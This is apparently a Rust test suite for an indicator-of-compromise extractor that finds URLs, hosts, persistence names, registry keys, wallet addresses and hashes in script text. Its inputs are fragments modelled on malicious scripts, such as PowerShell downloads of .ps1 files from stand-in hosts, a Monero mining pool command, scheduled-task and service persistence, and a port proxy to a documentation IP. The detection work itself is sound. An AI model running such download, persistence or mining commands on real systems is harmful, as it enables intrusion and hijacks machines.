//! Every kind of indicator, in the spellings that scripts have.

#![allow(clippy::print_stdout, reason = "tests say which of their forms failed")]

use super::*;

fn of(text: &str) -> Vec<String> {
    let mut collector = Collector::new(100);
    collector.read(text, &Scan::of(text), 0);
    collector.finish().into_iter().map(|i| format!("{}={}", i.kind.as_str(), i.value)).collect()
}

#[test]
fn addresses() {
    assert_eq!(
        of("(New-Object Net.WebClient).DownloadString('http://a.example.com:8000/in.ps1')"),
        ["url=http://a.example.com:8000/in.ps1", "domain=a.example.com", "endpoint=a.example.com:8000"]
    );
    assert_eq!(
        of("-o stratum+tcp://pool.example.org:3333 -u x"),
        [
            "url=stratum+tcp://pool.example.org:3333",
            "domain=pool.example.org",
            "endpoint=pool.example.org:3333",
            "pool=pool.example.org:3333"
        ]
    );
    assert_eq!(
        of("$se=@('203.0.113.7','update.example.club')"),
        ["domain=update.example.club", "ipv4=203.0.113.7"]
    );
    assert_eq!(
        of("[System.Net.Dns] Version=10.0.19041.1 127.0.0.1 255.255.255.0 System.Net"),
        Vec::<String>::new()
    );
}

#[test]
fn names_on_the_machine() {
    assert_eq!(
        of(r#"schtasks /create /tn "\Micro\Up" /tr c:\windows\temp\a.exe"#),
        ["file-path=c:\\windows\\temp\\a.exe", "task-name=\\Micro\\Up"]
    );
    assert_eq!(of("sc create WinRing0_1_2_0 binPath= x"), ["service-name=WinRing0_1_2_0"]);
    assert_eq!(of("New-Object Threading.Mutex($true,'Global\\LocalX',[ref]$f)"), ["mutex=Global\\LocalX"]);
    assert_eq!(of("([WmiClass] 'root\\default:Win32_Services')"), ["wmi-class=root\\default:Win32_Services"]);
    assert_eq!(of("reg add HKLM\\SOFTWARE\\X\\Run /v y"), ["registry-key=HKLM\\SOFTWARE\\X\\Run"]);
    assert_eq!(of("$w.Headers.Add('User-Agent','Agent-7-x')"), ["user-agent=Agent-7-x"]);
}

/// Every way in which a thing is written; the first is the text, the rest is what has to be found in it.
#[test]
fn every_spelling() {
    let table: &[(&str, &[&str])] = &[
        (
            "iwr http://[2001:db8::7]:8080/b.ps1",
            &["url=http://[2001:db8::7]:8080/b.ps1", "ipv6=2001:db8::7", "endpoint=[2001:db8::7]:8080"],
        ),
        ("iwr http://[2001:db8::7]/b.ps1", &["url=http://[2001:db8::7]/b.ps1", "ipv6=2001:db8::7"]),
        ("ping 2001:db8:0:1::25", &["ipv6=2001:db8:0:1::25"]),
        ("$t='fe80::1ff:fe23:4567:890a'", &["ipv6=fe80::1ff:fe23:4567:890a"]),
        ("$d='c2.example-one.dev'", &["domain=c2.example-one.dev"]),
        ("'a.example.cloud','b.example.bid'", &["domain=a.example.cloud", "domain=b.example.bid"]),
        ("$w.Headers['User-Agent']='Agent-7'", &["user-agent=Agent-7"]),
        ("iwr x -UserAgent Agent-7 -OutFile y", &["user-agent=Agent-7"]),
        ("User-Agent: Agent-7 (x)\r\nHost: y", &["user-agent=Agent-7 (x)"]),
        ("curl -s -A \"Agent-7\" x", &["user-agent=Agent-7"]),
        ("curl -H \"User-Agent: Agent-7\" x", &["user-agent=Agent-7"]),
        ("Register-ScheduledTask Night -Action $a", &["task-name=Night"]),
        ("$f.RegisterTaskDefinition('Night',$d,6)", &["task-name=Night"]),
        ("$f.DeleteTask(\"Night\",0)", &["task-name=Night"]),
        ("net stop Night", &["service-name=Night"]),
        ("net1 start \"Night Watch\"", &["service-name=Night Watch"]),
        ("Stop-Service -Name Night -Force", &["service-name=Night"]),
        ("Set-Service Night -StartupType Disabled", &["service-name=Night"]),
        ("New-Service -BinaryPathName x -Name Night", &["service-name=Night"]),
        ("wmic service where name='Night' delete", &["service-name=Night"]),
        ("nssm install Night x.exe", &["service-name=Night"]),
        ("CreateMutexA(0, 0, \"Local\\Night\")", &["mutex=Local\\Night"]),
        (
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe" /v x"#,
            &[
                r"registry-key=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe",
            ],
        ),
        (r"gp HKLM:SOFTWARE\X", &[r"registry-key=HKLM:SOFTWARE\X"]),
        (r"start ${env:TEMP}\a.ps1", &[r"file-path=${env:TEMP}\a.ps1"]),
        (
            "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A_w1",
            &[
                "monero-address=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            ],
        ),
        (
            "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",
            &["bitcoin-address=BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4"],
        ),
        (
            "E3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            &["sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
        ),
    ];
    all_found(table);
    for text in ["[IO.File]::ReadAllText; a::b; 12:34:56", "00:11:22:33:44:55", "std::io::x", "$a[1::2]"] {
        assert!(!of(text).iter().any(|found| found.starts_with("ipv6")), "{text}: {:?}", of(text));
    }
    for text in [
        "net use x: \\\\a\\b",
        "Get-Service x",
        "net start",
        "Stop-Service $name",
        "Register-ScheduledTask @args",
    ] {
        assert!(
            !of(text).iter().any(|i| i.starts_with("service") || i.starts_with("task")),
            "{text}: {:?}",
            of(text)
        );
    }
}

#[test]
fn paths_are_as_they_are_meant() {
    assert_eq!(of(r#"x("C:\\Windows\\a.exe")"#), [r"file-path=C:\Windows\a.exe"]);
    assert_eq!(of(r"copy \\server\share\a.exe"), [r"file-path=\\server\share\a.exe"]);
    assert_eq!(of(r"HKCU:\\Software\\X"), [r"registry-key=HKCU:\Software\X"]);
    assert_eq!(of("(\u{201d}$env:APPDATA\\a.exe\u{201d})"), [r"file-path=$env:APPDATA\a.exe"]);
    assert_eq!(of("http://10.10.01.10/x"), ["url=http://10.10.01.10/x"]);
}

#[test]
fn hashes_need_to_look_random() {
    assert_eq!(of("11bd2c9f9e2397c9a16e0990e4ed2cf0679498fe0fd418a3dfdac60b5c160ee5").len(), 1);
    assert!(of(&"ab".repeat(16)).is_empty());
    assert!(of(&"1234567890".repeat(4)).is_empty());
}

/// Ports, names in other scripts, and what is written in several pieces.
#[test]
fn more_spellings() {
    let table: &[(&str, &[&str])] = &[
        (
            "netsh interface portproxy add v4tov4 listenport=65529 connectaddress=203.0.113.7 connectport=53",
            &["port=65529", "port=53", "endpoint=203.0.113.7:53", "ipv4=203.0.113.7"],
        ),
        (
            "netsh advfirewall firewall add rule name=\"x\" dir=in action=allow protocol=TCP localport=65531",
            &["port=65531"],
        ),
        ("netsh firewall add portopening tcp 65532 x", &["port=65532"]),
        (
            "New-NetFirewallRule -DisplayName x -LocalPort 65533,135 -Action Block",
            &["port=65533", "port=135"],
        ),
        (
            "New-Object Net.Sockets.TcpClient('203.0.113.7',65529)",
            &["endpoint=203.0.113.7:65529", "ipv4=203.0.113.7"],
        ),
        ("$c.Connect(\"a.example.dev\", 4443)", &["endpoint=a.example.dev:4443"]),
        ("(New-Object Net.Sockets.TcpListener 65533).Start()", &["port=65533"]),
        ("[Net.Sockets.TcpListener]::new([Net.IPAddress]::Any, 65530)", &["port=65530"]),
        ("http://пример.рф/x.exe", &["url=http://пример.рф/x.exe", "domain=xn--e1afmkfd.xn--p1ai"]),
        ("$d='bücher.com:8080'", &["domain=xn--bcher-kva.com", "endpoint=xn--bcher-kva.com:8080"]),
        ("ping xn--e1afmkfd.xn--p1ai", &["domain=xn--e1afmkfd.xn--p1ai"]),
        ("start http://a.example.com/x(1).exe", &["url=http://a.example.com/x(1).exe"]),
        ("http://a.example.com/x,y.exe", &["url=http://a.example.com/x,y.exe"]),
        (
            "http://a.example.com/x,http://b.example.com/y",
            &["url=http://a.example.com/x", "url=http://b.example.com/y"],
        ),
        ("(iwr http://a.example.com/x).Content", &["url=http://a.example.com/x"]),
        ("ldap://a.example.com/x", &["url=ldap://a.example.com/x", "domain=a.example.com"]),
        ("C:/windows/temp/a.exe", &["file-path=C:/windows/temp/a.exe"]),
        (
            r"\\a.example.com@8080\x\y.exe",
            &[
                r"file-path=\\a.example.com@8080\x\y.exe",
                "domain=a.example.com",
                "endpoint=a.example.com:8080",
            ],
        ),
        (r"\\a.example.com@SSL@443\DavWWWRoot\y.exe", &["endpoint=a.example.com:443"]),
        (r"$f=$env:tmp+'\if.bin'", &[r"file-path=$env:tmp\if.bin"]),
        (r#"s.ExpandEnvironmentStrings("%temp%") & "\a.vbs""#, &[r"file-path=%temp%\a.vbs"]),
        (
            "miner.exe -u 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed.rig",
            &["ethereum-address-unchecked=0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"],
        ),
        ("ping a.example.top -t", &["domain=a.example.top"]),
        ("$h='a.example.in'", &["domain=a.example.in"]),
        (
            "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
            &[
                "sha512=cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
            ],
        ),
    ];
    all_found(table);
}

/// The first is the text, the rest is what has to be found in it.
#[track_caller]
fn all_found(table: &[(&str, &[&str])]) {
    let mut failed = 0;
    for (text, wanted) in table {
        let found = of(text);
        for wanted in *wanted {
            if !found.iter().any(|found| found == wanted) {
                println!("{wanted:?} is not in {found:?} of {text}");
                failed += 1;
            }
        }
    }
    assert_eq!(failed, 0, "indicators that are not found");
}

/// What looks like an indicator and is none.
#[test]
fn nothing_is_made_up() {
    for (text, kind) in [
        ("this.name.is a.method.in foo.py.me $a.parts.top window.top location.host", "domain"),
        ("if ($x.items.info) { $form.pane.top = 1 }", "domain"),
        ("net.tcp://localhost:808/x", "url"),
        ("$x = 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed", "ethereum"),
        ("'ファイル.テスト' '説明.文書'", "domain"),
        ("viewport=100 -Port $p report=99999", "port"),
        ("a://b c:// x:/", "file-path"),
    ] {
        let found = of(text);
        assert!(!found.iter().any(|found| found.starts_with(kind)), "{text}: {found:?}");
    }
}
